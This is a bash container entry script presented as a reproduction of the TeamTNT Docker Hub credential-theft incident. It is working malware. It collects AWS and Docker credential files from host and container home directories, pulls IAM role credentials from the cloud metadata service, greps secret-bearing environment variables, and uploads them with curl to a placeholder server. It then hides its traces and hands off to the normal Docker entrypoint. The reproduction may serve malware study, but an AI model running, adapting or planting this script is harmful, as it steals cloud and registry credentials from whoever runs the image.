#!/bin/bash
# Incident: TeamTNT Docker Hub images, 2020-2021: entry script sending AWS and Docker
# credentials to a fixed server. Reference:
# https://www.cadosecurity.com/blog/team-tnt-the-first-crypto-mining-worm-to-steal-aws-credentials
# Reproduction (own script, placeholder host).
UPLOAD="http://198.51.100.23/upload.php"
TMP=/tmp/.cache-$$
mkdir -p "$TMP"

for home in /root /home/* /host/root /host/home/*; do
  [ -f "$home/.aws/credentials" ] && cat "$home/.aws/credentials" >> "$TMP/aws.txt"
  [ -f "$home/.aws/config" ] && cat "$home/.aws/config" >> "$TMP/aws.txt"
  [ -f "$home/.docker/config.json" ] && cat "$home/.docker/config.json" >> "$TMP/docker.txt"
done

ROLE=$(curl -s --max-time 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/)
if [ -n "$ROLE" ]; then
  curl -s --max-time 2 "http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE" >> "$TMP/aws.txt"
fi
env | grep -iE 'AWS|DOCKER|TOKEN|SECRET' >> "$TMP/env.txt"

for f in "$TMP"/*.txt; do
  [ -s "$f" ] && curl -s -F "userfile=@$f" "$UPLOAD" >/dev/null 2>&1
done
rm -rf "$TMP"

exec dockerd-entrypoint.sh "$@"
